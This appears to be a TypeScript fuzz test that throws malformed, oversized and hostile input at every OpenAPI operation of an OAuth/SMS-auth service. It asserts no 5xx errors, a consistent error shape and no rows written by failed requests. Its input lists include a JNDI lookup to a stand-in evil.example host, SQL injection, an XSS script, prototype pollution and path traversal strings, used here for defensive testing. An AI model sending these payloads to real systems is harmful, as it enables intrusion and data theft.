// Oversized and malformed input on every documented endpoint: a seeded fast-check pass over each
// operation of the OpenAPI document (API_OPERATIONS, the same zod schemas the routes parse with).
// Random and mutated bodies (wrong types, huge strings, deep nesting, control characters), invalid
// JSON, wrong content types, bodies over the size cap, random query strings and path parameters:
// never a 5xx, always the `{error, error_description}` shape on failure, and nothing written by a
// request that failed (row counts of every data table before and after).
//
// Reproduce a failure with the seed and path fast-check prints: FUZZ_SEED=<seed> npx vitest run …
// New capabilities are picked up by themselves once their operations are in lib/openapi/operations.ts.
import path from "node:path";
import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import type { CreatedClient } from "@/lib/clients/create-client";
import { MAX_JSON_BODY_BYTES } from "@/lib/config/limits";
import { db } from "@/lib/db";
import { API_OPERATIONS } from "@/lib/openapi/operations";
import type { ApiOperation } from "@/lib/openapi/types";
import { apiRequest, basicAuth, createTestClient } from "../support/fixtures";
import { createTestUser, signIn } from "../support/oauth-fixtures";

const SEED = Number(process.env.FUZZ_SEED ?? 9700);
const RUNS = Number(process.env.FUZZ_RUNS ?? 15);
const ROOT = path.resolve(import.meta.dirname, "../..");

/** Tables a request could write to (audit events and rate-limit buckets are expected on failures). */
const DATA_TABLES = [
  "workspaces",
  "clients",
  "users",
  "user_intents",
  "sms_messages",
  "sms_codes",
  "authorization_requests",
  "authorization_codes",
  "refresh_tokens",
  "access_tokens",
  "consents",
  "trusted_auth_tokens",
  "webhook_deliveries",
  "phone_change_requests",
];

async function rowCounts(): Promise<Record<string, number>> {
  const select = DATA_TABLES.map((table) => `(SELECT count(*)::int FROM "${table}") AS "${table}"`).join(", ");
  const [row] = await db().$queryRawUnsafe<Record<string, number>[]>(`SELECT ${select}`);
  return row!;
}

type Handler = (req: Request, args?: { params: Promise<Record<string, string>> }) => Promise<Response>;

async function handlerOf(op: ApiOperation): Promise<Handler> {
  const dir = op.path.replace(/\{(\w+)\}/g, "[$1]");
  const mod = (await import(/* @vite-ignore */ path.join(ROOT, "app", dir, "route.ts"))) as Record<string, Handler>;
  const handler = mod[op.method.toUpperCase()];
  if (!handler) throw new Error(`${op.method.toUpperCase()} ${op.path} has no handler in app${dir}/route.ts`);
  return handler;
}

let partner: CreatedClient;
let userToken: string;

beforeAll(async () => {
  partner = await createTestClient();
  const user = await createTestUser();
  userToken = (await signIn(partner, user, { scope: "openid phone offline_access" })).access_token;
});

function authHeaders(op: ApiOperation): Record<string, string> {
  if (op.security.includes("partnerBasic") || op.security.includes("partnerBearer")) return { Authorization: basicAuth(partner.client_id, partner.client_secret!) };
  if (op.security.includes("userBearer")) return { Authorization: `Bearer ${userToken}` };
  return {};
}

// ── arbitraries ────────────────────────────────────────────────────────────────────────────────
const controlString = fc.string({ unit: fc.integer({ min: 0, max: 0x1f }).map((code) => String.fromCharCode(code)), minLength: 1, maxLength: 8 });
const nastyString = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.string({ unit: "binary", maxLength: 40 }),
  controlString,
  fc.constant("\u0000"),
  fc.constant("\ud800"),
  fc.constant("a".repeat(70_000)),
  fc.constant("%00%2e%2e%2f"),
  fc.constant("' OR 1=1 --"),
  fc.constant("<script>alert(1)</script>"),
  fc.constant("${jndi:ldap://evil.example/a}"),
  fc.constant("__proto__"),
);
const deepNesting = fc.integer({ min: 100, max: 3000 }).chain((depth) => fc.constantFrom(JSON.parse(`${"[".repeat(depth)}${"]".repeat(depth)}`) as unknown, JSON.parse(`${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`) as unknown));
const nastyValue: fc.Arbitrary<unknown> = fc.oneof(
  nastyString,
  fc.integer(),
  fc.double(),
  fc.constant(Number.MAX_SAFE_INTEGER * 1000),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.anything({ maxDepth: 2 }), { maxLength: 5 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.anything({ maxDepth: 2 }), { maxKeys: 4 }),
  fc.constant({ __proto__: { admin: true } }),
  deepNesting,
);

function examplesOf(op: ApiOperation): Record<string, unknown>[] {
  const body = op.requestBody;
  if (!body) return [];
  const all = [body.example, ...Object.values(body.examples ?? {}).map((example) => example.value)];
  return all.filter((value): value is Record<string, unknown> => typeof value === "object" && value !== null && !Array.isArray(value));
}

/** A valid example with one field replaced, removed or added. */
function mutated(op: ApiOperation): fc.Arbitrary<unknown> {
  const examples = examplesOf(op);
  if (!examples.length) return fc.dictionary(fc.string({ maxLength: 12 }), nastyValue, { maxKeys: 5 });
  return fc.constantFrom(...examples).chain((example) =>
    fc.tuple(fc.constantFrom(...Object.keys(example), "__extra__", "__proto__"), nastyValue, fc.boolean()).map(([key, value, remove]) => {
      const copy: Record<string, unknown> = { ...example };
      if (remove) delete copy[key];
      else copy[key] = value;
      return copy;
    }),
  );
}

type RawBody = { contentType: string | null; body: string; contentLength?: string };

function formOf(value: unknown): string {
  if (typeof value !== "object" || value === null || Array.isArray(value)) return String(value);
  return new URLSearchParams(Object.entries(value).map(([key, inner]) => [key, typeof inner === "string" ? inner : (JSON.stringify(inner) ?? "")])).toString();
}

function bodies(op: ApiOperation): fc.Arbitrary<RawBody> {
  const type = op.requestBody?.contentType ?? "application/json";
  const encode = type.includes("json") ? (value: unknown) => JSON.stringify(value) ?? "null" : formOf;
  const wellTyped = fc.oneof({ weight: 3, arbitrary: mutated(op).map((value) => ({ contentType: type, body: encode(value) })) }, { weight: 2, arbitrary: nastyValue.map((value) => ({ contentType: type, body: encode(value) })) });
  const malformed = fc.oneof(
    fc.constantFrom("{", "[1,", "nul", '{"a":}', "\u0000", "", '{"a":"\\u0000"}', "\ufeff{}", "a=1&a=2", "%zz=%", "=&=&").map((body) => ({ contentType: type, body })),
    fc.string({ unit: "binary", maxLength: 200 }).map((body) => ({ contentType: type, body })),
    fc
      .constantFrom("text/plain", "application/xml", "multipart/form-data; boundary=x", "application/json; charset=utf-16", "application/x-www-form-urlencoded", "application/json")
      .map((contentType) => ({ contentType, body: encode(examplesOf(op)[0] ?? {}) })),
    fc.constant({ contentType: null, body: "{}" }),
    fc.constant({ contentType: type, body: type.includes("json") ? JSON.stringify({ a: "x".repeat(MAX_JSON_BODY_BYTES) }) : `a=${"x".repeat(MAX_JSON_BODY_BYTES)}` }),
    fc.constant({ contentType: type, body: "{}", contentLength: String(MAX_JSON_BODY_BYTES * 100) }),
  );
  return fc.oneof(wellTyped, malformed);
}

function queries(op: ApiOperation): fc.Arbitrary<string> {
  const keys = Object.keys(op.params?.query?.shape ?? {});
  const key = keys.length ? fc.oneof(fc.constantFrom(...keys), fc.string({ maxLength: 8 })) : fc.string({ maxLength: 8 });
  return fc
    .dictionary(
      key,
      fc.oneof(
        nastyString,
        nastyValue.map((value) => JSON.stringify(value) ?? ""),
      ),
      { maxKeys: 6 },
    )
    .map((params) => {
      const search = new URLSearchParams();
      for (const [name, value] of Object.entries(params)) search.append(name, value.slice(0, 5000));
      return search.toString();
    });
}

const pathParam = fc.oneof(fc.uuid(), fc.string({ maxLength: 20 }), fc.constantFrom("..", "%00", "a".repeat(5000), "00000000-0000-0000-0000-000000000000", "' OR 1=1 --"));

// ── the property ───────────────────────────────────────────────────────────────────────────────
interface Attempt {
  query: string;
  pathValue: string;
  raw: RawBody | null;
}

async function expectSafe(op: ApiOperation, handler: Handler, attempt: Attempt): Promise<void> {
  const names = [...op.path.matchAll(/\{(\w+)\}/g)].map((match) => match[1]!);
  const url = `${op.path.replace(/\{(\w+)\}/g, () => encodeURIComponent(attempt.pathValue))}${attempt.query ? `?${attempt.query}` : ""}`;
  const headers: Record<string, string> = { ...authHeaders(op) };
  if (attempt.raw?.contentType) headers["Content-Type"] = attempt.raw.contentType;
  if (attempt.raw?.contentLength) headers["Content-Length"] = attempt.raw.contentLength;
  const before = await rowCounts();
  const response = await handler(apiRequest(url, { method: op.method.toUpperCase(), headers, ...(attempt.raw ? { body: attempt.raw.body } : {}) }), {
    params: Promise.resolve(Object.fromEntries(names.map((name) => [name, attempt.pathValue]))),
  });
  const label = `${op.method.toUpperCase()} ${url.slice(0, 120)} ${attempt.raw ? `(${attempt.raw.contentType}) ${attempt.raw.body.slice(0, 120)}` : ""}`;
  expect(response.status, label).toBeLessThan(500);
  if (response.status < 400) return;
  const type = response.headers.get("content-type") ?? "";
  if (op.path === "/login/oauth/authorize") {
    // The hosted page shows its error page (HTML) or redirects to the verified redirect_uri.
    expect(type, label).toMatch(/text\/html/);
  } else {
    expect(type, label).toMatch(/application\/json/);
    const body = (await response.json()) as Record<string, unknown>;
    expect(typeof body.error, label).toBe("string");
    expect(typeof body.error_description, label).toBe("string");
    expect(
      Object.keys(body).every((key) => ["error", "error_description", "details"].includes(key)),
      label,
    ).toBe(true);
  }
  expect(await rowCounts(), `${label}: a failed request wrote rows`).toEqual(before);
}

describe("fuzz: every documented operation survives malformed and oversized input", () => {
  it("covers every operation in the OpenAPI document", () => {
    expect(API_OPERATIONS.length).toBeGreaterThanOrEqual(16);
  });

  it.each(API_OPERATIONS.map((op) => [`${op.method.toUpperCase()} ${op.path}`, op] as const))("fuzz %s", async (_name, op) => {
    const handler = await handlerOf(op);
    const hasBody = Boolean(op.requestBody) || op.method === "post";
    const attempts = fc.record({
      query: op.params?.query ? queries(op) : fc.constant(""),
      pathValue: op.path.includes("{") ? pathParam : fc.constant(""),
      raw: hasBody ? bodies(op) : fc.constant(null),
    });
    await fc.assert(
      fc.asyncProperty(attempts, (attempt) => expectSafe(op, handler, attempt)),
      { seed: SEED, numRuns: RUNS, endOnFailure: true },
    );
  });
});
